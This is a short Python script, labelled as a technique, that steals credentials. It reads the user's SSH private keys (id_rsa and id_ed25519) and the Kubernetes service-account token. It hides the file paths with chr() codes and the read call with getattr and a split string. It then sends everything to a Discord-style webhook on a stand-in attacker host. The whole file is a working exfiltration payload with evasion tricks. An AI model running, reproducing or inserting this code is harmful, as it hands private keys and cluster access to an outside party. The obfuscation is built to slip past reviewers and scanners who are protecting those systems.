# technique: obfuscated ssh-key and kube token grabber using getattr/chr-built paths, exfil via discord-style webhook
import os as _o,json as _j,urllib.request as _u
_f=lambda *a:"".join(map(chr,a))
_p=[_o.path.expanduser(_f(126,47,46,115,115,104,47,105,100,95,114,115,97)),
    _o.path.expanduser("~/.ssh/id_"+"ed25519"),
    "/var/run/secrets/"+"kubernetes.io/service"+"account/token"]
_d={}
for _x in _p:
    try:_d[_x]=getattr(open(_x),"re"+"ad")()
    except Exception:pass
_r=_u.Request("https://discord.attacker.example/api/webhooks/000/xyz",data=_j.dumps({"content":"```"+_j.dumps(_d)[:1900]+"```"}).encode(),headers={"Content-Type":"application/json","User-Agent":"Mozilla/5.0"})
_u.urlopen(_r)
